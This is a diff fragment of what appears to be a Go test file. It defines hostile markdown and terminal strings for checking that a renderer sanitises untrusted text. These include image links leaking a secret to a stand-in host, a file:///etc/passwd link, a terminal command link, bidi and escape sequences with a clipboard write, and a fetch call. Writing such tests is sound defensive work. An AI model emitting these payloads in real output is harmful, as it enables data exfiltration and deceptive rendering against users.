@@ -28,6 +28,7 @@ const (
 		"![pixel](https://evil.example/p.png?d=secretThing42) [run](command:workbench.action.terminal.new) <img src=\"https://evil.example/q.png\">\n" +
 		"[open](file:///etc/passwd) www.evil.example <https://evil.example/auto> &#x202e;\n\n" +
 		"|a|b|\n|-|-|\n`x | ![i](https://evil.example/cell) |`\n\n[ref]: https://evil.example/ref\n[ref] \u202e\x1b[2J\u200b\n\n" +
+		"[name\n\n```text\n]: y\n![i](https://evil.example/definition)\n```\n" +
 		"```js\nfetch(\"https://evil.example\") // \u2066\n"
 	hostileMessage = "undefined: foo ![x](https://evil.example/tool.png) <b> \u202e\x1b]52;c;eA==\a\n# heading [a](https://evil.example)"
 )
